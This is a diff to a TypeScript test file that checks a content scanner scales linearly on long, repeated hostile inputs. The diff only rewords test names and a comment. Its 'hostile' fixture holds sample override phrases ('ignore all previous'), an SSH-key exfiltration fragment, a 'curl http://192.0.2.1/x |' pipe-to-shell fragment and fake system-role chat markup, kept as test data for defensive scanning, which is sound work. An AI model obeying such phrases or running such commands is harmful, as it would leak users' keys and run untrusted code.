@@ -7,7 +7,7 @@ const repeat = (unit: string, length: number) => unit.repeat(Math.ceil(length / 
 const hostile = {
   'one letter': 'a',
   'the start of an order': 'ignore all the ',
-  'verbs and objects without an end': 'send the contents of secret .ssh key to ',
+  'endless verbs and objects': 'send the contents of secret .ssh key to ',
   pipes: 'curl http://192.0.2.1/x | ',
   'open quotation marks': '"`\' ignore all previous ',
   'code fences': '```\nignore previous\n',
@@ -19,7 +19,7 @@ const hostile = {
   'open markup': '<system> <|im_start|>system ',
 }
 
-/** Computing time of one scan in ms: the lesser of two runs. */
+/** Returns the CPU time of a scan in ms, the lower of two runs. */
 function cpuMs(text: string): number {
   const runs = [0, 1].map(() => {
     const before = process.cpuUsage()
@@ -31,7 +31,7 @@ function cpuMs(text: string): number {
 }
 
 for (const [name, unit] of Object.entries(hostile)) {
-  test(`the cost grows with the length, not with its square: ${name}`, t => {
+  test(`scan time grows linearly with the length: ${name}`, t => {
     const short = cpuMs(repeat(unit, 32_768))
     const long = cpuMs(repeat(unit, 131_072))
     t.true(long < 12 * Math.max(short, 2), `${short} ms for 32 Ki, ${long} ms for 128 Ki characters`)
@@ -56,7 +56,7 @@ test('the longest memory is scanned in many small steps (rules.md 1.6)', async t
   t.true(turns > 50, `${turns} turns of the event loop during the scan`)
 })
 
-test('a caller may share its own budget between scans', async t => {
+test('a caller can share its budget between scans', async t => {
   let asked = 0
   await scanContentInSlices('Use pnpm, not npm.', () => {
     asked++
